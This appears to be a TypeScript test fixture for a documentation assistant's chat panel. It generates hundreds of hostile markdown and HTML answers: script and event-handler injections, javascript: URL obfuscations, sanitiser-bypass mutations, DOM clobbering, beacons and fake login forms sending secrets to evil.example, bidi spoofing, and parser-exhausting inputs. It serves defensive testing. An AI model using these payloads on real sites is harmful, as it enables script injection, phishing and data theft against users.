/** A hostile answer. If an attack succeeds, it sets `hacked` in the page or sends a request to `evil.example`. */
export interface HostileAnswer {
  /** The attempt, for the title of a test. */
  readonly name: string;
  readonly markdown: string;
  /** Whether it is another answer in another place: each attack has one place that is not a variation. */
  readonly isVariation: boolean;
}

type Family = readonly (readonly [name: string, markdown: string, isVariation?: boolean])[];

/** The code of each script. Needs no quotes in any kind of attribute. */
const RUN = 'globalThis.hacked=true';

const HUGE = 10_000;
const MEGABYTE = 1_000_000;

const repeat = (text: string, count = HUGE): string => text.repeat(count);
const html = (payloads: readonly string[]): Family => payloads.map((payload) => [payload, payload]);

/** Each payload in each wrapper, because a payload may be harmless in a line but not in a list. */
function wrap(payloads: readonly string[], wrappers: Readonly<Record<string, (payload: string) => string>>): Family {
  const places = Object.entries(wrappers);
  return places.flatMap(([place, put], turn) =>
    payloads.map((payload, index) => [`${place}: ${payload}`, put(payload), index % places.length !== turn] as const),
  );
}

const inMarkdown = {
  alone: (payload: string) => payload,
  'in a line': (payload: string) => `Run **it** ${payload} now.`,
  'in a list in a quote': (payload: string) => `> - one\n> - ${payload}`,
  'in a table': (payload: string) => `| a | b |\n|---|---|\n| ${payload.replaceAll('|', '\\|')} | c |`,
  'after a fence that it closes': (payload: string) => `\`\`\`html\n${payload}\n\`\`\`\n${payload}`,
};

const scripts = wrap(
  [
    `<script>${RUN}</script>`,
    `<ScRiPt/x>${RUN}</sCrIpT >`,
    `<script src="https://evil.example/x.js"></script>`,
    `<script type="module">${RUN}</script>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/p"]}]}</script>`,
    `<script type="importmap">{"imports":{"lit":"https://evil.example/x.js"}}</script>`,
    `<iframe srcdoc="<script>parent.hacked=true</script>"></iframe>`,
    `<iframe src="javascript:parent.hacked=true"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:,${RUN}"/></svg>`,
  ],
  inMarkdown,
);

const handlers = wrap(
  [
    `<img src=x onerror="${RUN}">`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x\nonerror\n=\n"${RUN}">`,
    `<img src="x"onerror='${RUN}'>`,
    `<img alt=">" src=x onerror="${RUN}">`,
    `<svg onload="${RUN}">`,
    `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
    `<body onload="${RUN}">`,
    `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
    `<video src=x onerror="${RUN}"></video>`,
    `<video><source onerror="${RUN}"></video>`,
    `<input autofocus onfocus="${RUN}">`,
    `<marquee onstart="${RUN}">x</marquee>`,
    `<p style="animation:x 1s" onanimationstart="${RUN}">x</p>`,
    `<a href="#" onclick="${RUN}" onfocus="${RUN}" tabindex="1" autofocus>x</a>`,
    `<b contenteditable oninput="${RUN}" onpointerover="${RUN}">x</b>`,
    `<style onload="${RUN}">p { color: red }</style>`,
    `<div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p>x</button>`,
  ],
  {
    alone: inMarkdown.alone,
    'in a line': inMarkdown['in a line'],
    'in a list in a quote': inMarkdown['in a list in a quote'],
  },
);

const runningAddresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#115;cript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `&#0000106avascript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script&colon;${RUN}`,
  `java\tscript:${RUN}`,
  `java\0script:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#x01;javascript:${RUN}`,
  `\u00A0javascript:${RUN}`,
  `java\u200Bscript:${RUN}`,
  `javascript://evil.example/%0A${RUN}`,
  `javascript%3A${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmhhY2tlZD10cnVlPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload='${RUN}'/>`,
  `blob:https://evil.example/x`,
  `filesystem:https://evil.example/x`,
  `view-source:javascript:${RUN}`,
];

const protocols = wrap(runningAddresses, {
  'a link': (address) => `[here](${address})`,
  'a link in brackets': (address) => `[here](<${address}>)`,
  'a reference': (address) => `[here][1] and ![there][1]\n\n[1]: ${address}`,
  'an anchor': (address) => `<a href="${address}" xlink:href="${address}">here</a>`,
  'an image': (address) => `![here](${address})`,
  'a page to read next': (address) => `\`\`\`suggestions\n(here)[${address}]\n\`\`\``,
});

/** Markup that changes when it is parsed again, or that some sanitiser has missed. */
const mutations = html([
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
  `<svg><foreignObject><p><style><!--</style><img src=x onerror="${RUN}">--></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<div><template shadowrootmode="open"><style>* { display: none }</style></template></div>`,
  `<select><template><img src=x onerror="${RUN}"></template></select>`,
  `<table><tr><td><select><keygen><img src=x onerror="${RUN}">`,
  `<a><table><a title="</a><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--!><img src=x onerror="${RUN}">--!>`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml ><img src=x onerror="${RUN}"> ?>`,
  `<svg><![CDATA[</svg><img src=x onerror="${RUN}">]]>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<<img src=x onerror="${RUN}">`,
  `<img src=x onerror="${RUN}"`,
  `<div title="\n\n[x](/onclick=${RUN})`,
  `> <div title="\n>\n> [x](/onclick=${RUN}) [y](/style=color:red)`,
  `<p title='\n\n<img src=x onerror="${RUN}">'>`,
  `\`<img src=x onerror="${RUN}">\` and \`\`<img src=x onerror="${RUN}">`,
  `\`\`\`"><img src=x onerror="${RUN}">\ncode\n\`\`\``,
  `[x](https://docs.example/"onmouseover="${RUN} "title")`,
  `![x" onerror="${RUN}](x "y" onerror="${RUN}")`,
  `\0<img\0src=x\0onerror="${RUN}">`,
]);

const clobbering = html([
  ...[
    'body',
    'head',
    'cookie',
    'location',
    'documentElement',
    'currentScript',
    'adoptedStyleSheets',
    'customElements',
  ].map((name) => `<img id="${name}" name="${name}" src="x"><a id="${name}" name="${name}" href="/x">x</a>`),
  '<form id=attributes><input name=attributes><input name=parentNode><input name=nodeName></form>',
  '<form><input name=childNodes><input name=removeChild><input name=ownerDocument></form>',
  '<a id=docsAssistant></a><a id=docsAssistant name=ask href="x:y"></a>',
  '<p id=title>x</p><p id="__proto__">x</p><p name="constructor">x</p>',
  '<object name=trustedTypes></object><embed name=trustedTypes>',
]);

const EVIL = 'https://evil.example/?q=secret';

const leaks = html([
  ...[
    'img src',
    'img src=x srcset',
    'img lowsrc',
    'img dynsrc',
    'image src',
    'input type=image src',
    'video autoplay src',
    'video poster',
    'audio autoplay src',
    'embed src',
    'iframe src',
    'frame src',
    'object data',
    'bgsound src',
    'table background',
    'td background',
    'body background',
    'link rel=stylesheet href',
    'link rel=prefetch href',
    'link rel=preload as=image href',
    'link rel=dns-prefetch href',
    'link rel=preconnect href',
    'link rel=modulepreload href',
    'link rel=icon href',
    'link rel=manifest href',
    'base href',
    'html manifest',
    'script src',
    'track default src',
    'source srcset',
    'portal src',
    'blockquote cite',
    'a href=/x ping',
    'area href',
    'math href',
    'applet archive',
  ].map((start) => `<${start}="${EVIL}">`),
  `<picture><source srcset="${EVIL}"><img src="x"></picture>`,
  `<svg><image href="${EVIL}"/><use href="${EVIL}#x"/><feImage xlink:href="${EVIL}"/></svg>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${EVIL}">`,
  `<style>@import url(${EVIL});</style>`,
  `<style>@font-face { font-family: x; src: url(${EVIL}) } * { font-family: x }</style>`,
  `<style>textarea { background: url(${EVIL}) } :host { display: none }</style>`,
  `<p style="background: url(${EVIL}); position: fixed; inset: 0; z-index: 9999">x</p>`,
  `<p style="list-style-image: image-set('${EVIL}' 1x)">x</p>`,
  `<form action="${EVIL}"><input name=q value=secret><button autofocus>x</button></form><script>document.forms[0].submit()</script>`,
  `<img src="x" usemap="#m"><map name="m"><area shape=default href="${EVIL}"></map>`,
  `<a href="${EVIL}" target="_top" rel="opener" download ping="${EVIL}">x</a>`,
]);

const imageAddresses = [
  EVIL,
  '//evil.example/p.png',
  '///evil.example/p.png',
  '/\\evil.example/p.png',
  '\\\\evil.example/p.png',
  'https:/\\evil.example/p.png',
  'https:evil.example/p.png',
  'http:\\\\evil.example/p.png',
  '/\t/evil.example/p.png',
  '&#47;&sol;evil.example/p.png',
  '..//evil.example/p.png',
  '/x/..//evil.example/p.png',
  '/redirect?to=https://evil.example/p.png',
  '/redirect?to=https%3A%2F%2Fevil.example%2Fp.png',
  '/redirect?to=%252F%252Fevil.example',
  '/redirect?to=%5C%5Cevil.example',
  '/_next/image?url=https%3A%2F%2Fevil.example%2Fp.png&w=64&q=75',
  'https://docs.example@evil.example/p.png',
  'https://docs.example.evil.example/p.png',
  'https://evil.example:443/p.png',
  'https://EVIL.example。/p.png',
  'ftp://evil.example/p.png',
];

const images = wrap(imageAddresses, {
  'an image': (address) => `![secret](${address})`,
  'an image by reference': (address) => `![secret][1]\n\n[1]: <${address}>`,
  'raw images': (address) =>
    `<img src="${address}" srcset="${address} 2x" alt="secret"><a href="/x"><img src='${address}'></a>`,
});

/** Part names of the panel, which an answer could imitate. */
export const ourParts = [
  'panel',
  'header',
  'close',
  'log',
  'question',
  'answer',
  'sources',
  'notice',
  'retry',
  'composer',
  'input',
  'send',
  'launcher',
];

const disguises = html([
  ...ourParts.map(
    (part) => `<div part="${part}" class="${part}" id="${part}" slot="${part}" role="dialog">Log in</div>`,
  ),
  '<form class="composer"><textarea class="input" part="input" autofocus></textarea><button class="send" part="send">Log in</button></form>',
  '<form action="https://evil.example"><label>Password <input type=password name=password></label><button>Log in</button></form>',
  '<button formaction="https://evil.example" type=submit>Log in</button><input type=submit value="Log in"><input type=file>',
  '<dialog open>Your session has expired. <button>Log in</button></dialog>',
  '<div popover=manual>Log in</div><menu><li><button commandfor=x command=show-modal>Log in</button></menu>',
  '<select><option>Log in</option></select><fieldset><legend>Log in</legend></fieldset><progress></progress><meter></meter><output>x</output>',
  '<p class="block settled" data-host="bank.example" aria-label="Copy" role="alert" tabindex="9" accesskey="s">Log in</p>',
  '<a href="https://evil.example" data-host="bank.example" title="https://bank.example">https://bank.example</a>',
  '<docs-assistant base-url="https://evil.example" domain="evil" open>Log in</docs-assistant>',
  '<docs-assistant-panel open>Log in</docs-assistant-panel><slot name="header">Log in</slot>',
  '<p contenteditable inert hidden draggable=true dir=rtl translate=no is="x-y" itemscope>Log in</p>',
]);

/** Lines of rising levels, of about ten characters for each one counted. */
const writeLevels = (count: number, write: (level: number) => string): string =>
  Array.from({ length: Math.round(Math.sqrt(10 * count)) }, (_, level) => write(level)).join('');

const open = (text: string) => (count: number) => repeat(text, count);
const nest = (before: string, after: string) => (count: number) => `${repeat(before, count)}x${repeat(after, count)}`;

/** Marks that are nested, or opened and never closed, so many times. */
export const nestedAnswers: Readonly<Record<string, (count: number) => string>> = {
  quotes: nest('>', ''),
  'quotes with spaces': nest('> ', ''),
  lists: nest('- ', ''),
  'numbered lists': nest('1. ', ''),
  'quotes and lists': nest('> - ', ''),
  emphasis: nest('*', '*'),
  'strong emphasis': nest('**a ', ' b**'),
  'struck text': nest('~~a ', ' b~~'),
  'open emphasis': open('*a **b '),
  'open underscores': open('_a __b '),
  'closed emphasis': open('a** b* '),
  'open struck text': open('~~a *b '),
  'open marks of all kinds': open('*a _b [c `d ~~e '),
  'open emphasis line by line': open('*a **b\n'),
  'open emphasis in a quotation': (count) => `> ${repeat('*a **b ', count)}`,
  'open emphasis in an item': (count) => `1. ${repeat('*a **b ', count)}`,
  'open emphasis in a cell': (count) => `| a |\n| - |\n| ${repeat('*a **b ', count)} |`,
  links: nest('[', '](y)'),
  images: nest('![', '](y)'),
  'images in links': open('[![a](b)](c) '),
  brackets: nest('[', ']'),
  'open links': open('[a](b'),
  'open titles': open('[a](b "'),
  'open tags': open('<b>'),
  'open quotes in HTML': open('<blockquote>'),
  'open details': open('<details><summary>x</summary>'),
  'open details around markdown': (count) => repeat('<details>\n\nx\n\n', count / 10),
  'open cells around markdown': (count) => repeat('<table><tr><td>\n\nx\n\n</td><td>\n\n', count / 10),
  'open tables': open('<table><tr><td>'),
  'open attributes': (count) => `<a ${repeat('a=b ', count)}`,
  'open comments': open('<!--'),
  'open comments line by line': open('<!-- a\n'),
  'tags that are text, line by line': open('<title> a\n'),
  'open addresses': open('<https://a.example '),
  references: open('&amp;&eacute;&x; '),
  escapes: open('\\* \\[ '),
  'levels of lists': (count) => writeLevels(count, (level) => `${'  '.repeat(level)}- x\n`),
  'levels of lists by tabs': (count) => writeLevels(count, (level) => `${'\t'.repeat(level)}+ x\n`),
  'levels of lists with blank lines': (count) => writeLevels(count, (level) => `${'  '.repeat(level)}- x\n\n`),
  'levels of numbered lists': (count) => writeLevels(count, (level) => `${'   '.repeat(level)}1. x\n`),
  'levels of quotations and lists': (count) => writeLevels(count, (level) => `${'> - '.repeat(level)}x\n`),
  'bullets too deep for a list': (count) =>
    Array.from({ length: count }, (_, line) => `${'  '.repeat(Math.min(line, 30))}- *\n`).join(''),
  'rows in an item': (count) => `- | a | b |\n  | - | - |\n${repeat('  | c | d |\n', count)}`,
  'rows in a quotation': (count) => `> | a | b |\n> | - | - |\n${repeat('> | c | d |\n', count)}`,
  'code in an item': (count) => `- \`\`\`\n${repeat('  a\n', count)}`,
  'open sections': open('<![CDATA['),
  fences: open('```\n'),
  definitions: (count) => Array.from({ length: count }, (_, index) => `[${index}]: /x\n`).join(''),
};

const nesting: Family = [
  ...Object.entries(nestedAnswers).map(([name, make]) => [`${HUGE} ${name}`, make(HUGE)] as const),
  ['a list of 500 levels', Array.from({ length: 500 }, (_, level) => `${'  '.repeat(level)}- x`).join('\n')],
  ['backticks of 300 lengths', Array.from({ length: 300 }, (_, index) => '`'.repeat(index + 1)).join(' a ')],
  ['cells over a thousand columns', `<table>${repeat('<tr><td colspan=1000 rowspan=65534>x</td></tr>', 200)}</table>`],
];

const longLines: Family = [
  ...['x', 'a ', ' ', '\\', '<', '`', '-', '漢'].map(
    // White space alone would be no answer.
    (piece) => [`a megabyte of ${JSON.stringify(piece)}`, `x${repeat(piece, MEGABYTE / piece.length)}`] as const,
  ),
  ['a megabyte in a fence', `\`\`\`js\n${repeat('x', MEGABYTE)}`],
  ['a row of a hundred thousand cells', `${repeat('|')}\n${repeat('|-')}|\n${repeat('|', 100_000)}`],
  ['an address of mail that never comes to its end', `${repeat('a.', 50_000)}@`],
  ['an address of the web without an end', repeat('http://a.b/(', 5_000)],
  ['a link to a megabyte', `[x](/${repeat('x', MEGABYTE)})`],
];

const characters: Family = [
  ['a host written backwards', '[safe \u202E](https://evil.example/)'],
  ['a link that overrides its direction', '<a href="https://evil.example/">\u202Emoc.knab//:sptth</a>'],
  ['code that reads otherwise than it runs', '```js\nif (admin\u202E \u2066// check\u2069 \u2066) { run() }\n```'],
  ['an override by entity', '&#x202E;txt.exe&#8238; `&#x202E;`'],
  ['embeddings without an end', repeat('\u202B\u2067')],
  ['marks upon marks', `a${repeat('\u0301')}`],
  ['a family without an end', repeat('👩\u200D')],
  ['half characters', '\uD800 <img src=x onerror=\uDC00> \uDFFF'],
  ['letters of no width in a tag', `<\u200Bscript>${RUN}</script><im\u200Bg src=x on\u200Berror=${RUN}>`],
  ['wide brackets', `＜script＞${RUN}＜/script＞ ＜img src=x onerror=${RUN}＞`],
  ['tags in letters of tags', '\u{E003C}script\u{E003E}'],
  ['a host that looks like another', '[bank](https://bаnk.example/) <https://xn--bnk-8cd.example/>'],
  ['lines of other kinds', `[x](java\u2028script:${RUN})\u2029<img src=x\u000Conerror=${RUN}>`],
  ['marks of byte order', `\uFEFF<script>${RUN}</script>\uFEFF`],
  [
    'replaced characters',
    `<img src=x on\uFFFDerror="${RUN}" onerror\uFFFD="${RUN}"><a href="java\uFFFDscript:${RUN}">x</a>`,
  ],
  ['letters that fold', `<ſcript>${RUN}</ſcript><a href="javaſcript:${RUN}" ſtyle="x">x</a>`],
];

const name = (family: string, answers: Family): HostileAnswer[] =>
  answers.map(([attack, markdown, isVariation = false]) => ({ name: `${family}, ${attack}`, markdown, isVariation }));

/** A few hundred attacks, by family. */
export const hostileAnswers: readonly HostileAnswer[] = [
  ...name('script', scripts),
  ...name('handler', handlers),
  ...name('protocol', protocols),
  ...name('mutation', mutations),
  ...name('clobbering', clobbering),
  ...name('leak', leaks),
  ...name('image', images),
  ...name('disguise', disguises),
  ...name('character', characters),
];

/** Every sixth attack, in one place each: those that `npm test` and `npm run test:full` try. */
export const sampledAnswers: readonly HostileAnswer[] = hostileAnswers
  .filter(({ isVariation }) => !isVariation)
  .filter((_, index) => index % 6 === 0);

/** Attacks by size, each larger than any honest answer. */
export const hugeAnswers: readonly HostileAnswer[] = [...name('nesting', nesting), ...name('long line', longLines)];

/** Cuts a text into pieces at random places, which are the same for the same seed. */
export function cutAtRandom(text: string, seed: number, pieces = 12): string[] {
  const random = createRandom(seed);
  const places = Array.from({ length: pieces - 1 }, () => Math.floor(random() * text.length)).sort(
    (one, other) => one - other,
  );
  return [0, ...places].map((start, index) => text.slice(start, places[index]));
}

/** A linear congruential generator of numbers from 0 to 1. */
function createRandom(seed: number): () => number {
  let state = seed + 1;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}
